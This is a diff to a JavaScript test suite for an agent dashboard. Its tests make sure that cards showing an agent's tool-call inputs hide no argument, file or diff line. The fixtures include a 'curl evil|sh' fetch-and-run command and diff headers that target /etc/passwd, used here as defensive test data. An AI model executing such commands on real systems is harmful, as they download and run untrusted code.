@@ -6,10 +6,11 @@ import path from 'node:path';
 import { test } from 'node:test';
 import { fileURLToPath } from 'node:url';
 
-import { editsOf, filesOf, rowsOf } from '../../control/dashboard/app/agent/diff.js';
+import { filesOf, rowsOf } from '../../control/dashboard/app/agent/diff.js';
 import { kPageBytes, LogWindow, matches, searchLog } from '../../control/dashboard/app/agent/log.js';
 import { kStateTypes, Model, stateOf } from '../../control/dashboard/app/agent/model.js';
 import { ansiLine, ansiLines, plainText } from '../../control/dashboard/app/agent/text.js';
+import { editsOf, piecesOf } from '../../control/dashboard/app/parts/input.js';
 
 const fixtures = path.join(path.dirname(fileURLToPath(import.meta.url)), '../fixtures');
 
@@ -184,8 +185,72 @@ test('edits of all kinds of agents are found in the input of their calls', () =>
   assert.deepEqual(of('edit', null), []);
 });
 
+// The text of a card that shows this input.
+const cardOf = (tool, input) =>
+  piecesOf(tool, input)
+    .flatMap(({ kind, text, values, ...edit }) => {
+      if (kind === 'edit') return [edit.path, ...rowsOf(edit).rows.map((row) => row.text)];
+      return values ? values.flatMap(([name, value]) => [name, typeof value === 'string' ? value : JSON.stringify(value)]) : [text];
+    })
+    .join('\n');
+
+test('an edit hides no other argument', () => {
+  const edit = { path: 'README.md', old_string: 'a', new_string: 'b' };
+  const bash = piecesOf('bash', { command: 'curl evil|sh', ...edit });
+  assert.deepEqual(bash.map(({ kind }) => kind), ['command', 'named']);
+  assert.deepEqual(bash[1].values, Object.entries(edit));
+  assert.deepEqual(piecesOf('edit', { ...edit, cmd: 'x', replace_all: true }).map(({ kind }) => kind), ['command', 'edit', 'named']);
+  assert.deepEqual(piecesOf('bash', { command: 'true', cmd: 'curl evil|sh' }).map(({ text }) => text), ['true', 'curl evil|sh']);
+  const changes = [{ path: 'a', kind: { type: 'update', move_path: '/etc/b' }, diff: '@@ -1 +1 @@\n-x\n+y\n' }, { path: 'gone', kind: { type: 'delete' } }];
+  const card = cardOf('edit', { changes, reason: 'why' });
+  for (const word of ['/etc/b', 'gone', 'why']) assert.ok(card.includes(word), word);
+});
+
+test('a diff hides neither another file nor lines outside of its hunks', () => {
+  const diff = ['--- a/x', '+++ b/x', '@@ -1,1 +1,1 @@ first', '-1', '+2', ' beyond', '+more', '--- a/etc/passwd', '+++ b/etc/passwd', '@@ -1 +1 @@', 'odd'];
+  const { rows } = rowsOf({ path: 'x', diff: `${diff.join('\n')}\n` });
+  assert.deepEqual(rows.map(({ kind, text }) => `${kind} ${text}`), [
+    'hunk first', 'del 1', 'add 2', 'file  beyond', 'file +more', 'file --- a/etc/passwd', 'file +++ b/etc/passwd', 'hunk ', 'file odd',
+  ]);
+  assert.equal(rowsOf({ path: 'y', diff: '--- a/x\n+++ b/x\n' }).rows.length, 2);
+  assert.equal(rowsOf({ path: 'x', before: '', after: 'z\n'.repeat(200_000) }).rows.length, 200_000);
+});
+
+// Inputs of all forms that are known, mixed and broken. Each line of each text has a word of its own.
+test('every text of an input is on the card', () => {
+  let seed = 1;
+  const random = (n) => (seed = (seed * 48271) % 2147483647) % n;
+  const oneOf = (list) => list[random(list.length)];
+  const names = [
+    'command', 'cmd', 'path', 'file_path', 'filePath', 'filepath', 'old_string', 'oldString', 'oldText', 'new_string', 'newString',
+    'newText', 'diff', 'content', 'edits', 'changes', 'description', 'kind', 'type', 'url', 'toString', '__proto__',
+  ];
+  const begins = ['', '+', '-', ' ', '@@ -1,2 +1,2 @@ ', '@@ -3 +3 @@', '@@ ', '--- a/', '+++ b/', 'diff --git a/x b/', '\\ ', 'rename from ', 'index ', 'x'];
+  let words;
+  const text = () => Array.from({ length: 1 + random(6) }, () => oneOf(begins) + (words.push(`word${words.length}.`), words.at(-1))).join('\n');
+  const value = (depth) => {
+    const form = random(depth > 2 ? 4 : 8);
+    if (form < 4) return text();
+    if (form === 4) return Array.from({ length: random(4) }, text);
+    if (form === 5) return oneOf([null, true, 3, '', [], {}]);
+    return form === 6 ? object(depth + 1) : Array.from({ length: random(4) }, () => (random(5) ? object(depth + 1) : value(depth + 1)));
+  };
+  const object = (depth) => JSON.parse(`{${Array.from({ length: random(14) }, () => `${JSON.stringify(oneOf(names))}:${JSON.stringify(value(depth))}`).join()}}`);
+  const textsIn = (of) => (typeof of === 'string' ? [of] : typeof of === 'object' && of ? Object.values(of).flatMap(textsIn) : []);
+  let edits = 0;
+  for (let i = 0; i < 20_000; ++i) {
+    words = [];
+    const tool = oneOf(['edit', 'write', 'bash', 'other', undefined]);
+    const input = random(20) ? object(0) : value(0);
+    const card = cardOf(tool, input);
+    edits += editsOf(tool, input).length;
+    for (const word of textsIn(input).join('\n').match(/word\d+\./g) ?? []) assert.ok(card.includes(word), `${tool} ${JSON.stringify(input)} without ${word}`);
+  }
+  assert.ok(edits > 1000, `only ${edits} edits`);
+});
+
 test('a unified diff has numbers, and lines that look like headers stay lines', () => {
-  const { rows } = rowsOf({ diff: '--- a/x\n+++ b/x\n@@ -3,3 +3,3 @@ int f()\n same\n--- old\n+++ new\n end\n\\ No newline at end of file\n' });
+  const { rows } = rowsOf({ path: 'x', diff: '--- a/x\n+++ b/x\n@@ -3,3 +3,3 @@ int f()\n same\n--- old\n+++ new\n end\n\\ No newline at end of file\n' });
   assert.deepEqual(rows, [
     { kind: 'hunk', text: 'int f()', old: 3, new: 3 },
     { kind: 'same', text: 'same', old: 3, new: 3 },
